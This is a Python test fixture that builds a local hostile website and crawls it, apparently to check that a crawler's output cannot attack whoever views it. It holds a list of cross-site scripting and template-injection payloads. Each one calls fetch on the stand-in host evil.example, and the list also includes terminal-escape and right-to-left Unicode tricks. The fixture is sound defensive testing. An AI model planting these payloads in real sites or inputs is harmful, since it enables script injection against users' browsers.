"""A web that attacks whoever looks at what was crawled of it, and a real crawl of it."""

import subprocess
import sys
from pathlib import Path

from tests.crawl.in_process import Answer, answering

MARK = "pwned"
"""What an attack that works leaves in the browser, as a property of the window."""
RUN = f"window.{MARK}=1;fetch('http://evil.example/')"
ATTACKS = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'\'"><svg onload="{RUN}">',
    f"{{{{ constructor.constructor('{RUN}')() }}}}",  # a template of Vue
    f"</textarea></title></script><script>{RUN}</script>",
    f"[x](javascript:{RUN}) ![y](http://evil.example/a.png)",  # Markdown
    f"${{{RUN}}} `{RUN}` %s {{b|x}}",  # a template of JavaScript, of ECharts
    f'" innerHTML="<img src=x onerror={RUN}>" :onclick="{RUN}" x="',  # attributes
    "\u202eexe.gpj\u2066\u2069\u200f \x07\x1b[31m",  # turned around, orders to terminals
    "iris " * 60_000,  # 300 KB
]
TOPIC = f'iris, eye <img src=x onerror="{RUN}">'


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def _page(place: int, attack: str) -> Answer:
    links = "".join(
        f'<a href="/{each}?q=%3Cscript%3E\'{each}">iris eye {_escaped(other[:300])}</a> '
        for each, other in enumerate(ATTACKS)
    )
    head = f"<title>iris {_escaped(attack)}</title><meta name='author' content=\"{_escaped(attack[:2000])}\">"
    text = f"<h1>iris {_escaped(attack[:3000])}</h1><p>The iris of the eye {_escaped(attack[:3000])}. iris eye iris</p>"
    outward = f"<a href=\"javascript:{RUN}\">iris eye</a><a href='http://evil.example/{place}'>iris eye <b>away</b></a>"
    broken = b"\xff\xfe\xc3\x28 iris \xed\xa0\x80 eye "
    return Answer(f"<html><head>{head}</head><body>{text}{links}{outward}".encode(errors="replace") + broken)


def crawled(folder: Path) -> Path:
    """The folder of a crawl of that web."""
    pages = {f"/{place}?q=%3Cscript%3E'{place}": _page(place, attack) for place, attack in enumerate(ATTACKS)}
    pages["/"] = _page(99, ATTACKS[0])
    with answering(pages) as (here, _):
        command = [
            sys.executable,
            "-m",
            "thresher",
            "crawl",
            "--topic",
            TOPIC,
            "--seed",
            f"{here}/",
            "--into",
            str(folder),
        ]
        options = [
            "--judge",
            "terms",
            "--strategy",
            "best-first",
            "--delay",
            "0",
            "--pages",
            "9",
            "--exclude-host",
            "evil.example",
        ]
        done = subprocess.run([*command, *options], capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 0, done.stderr
    return folder
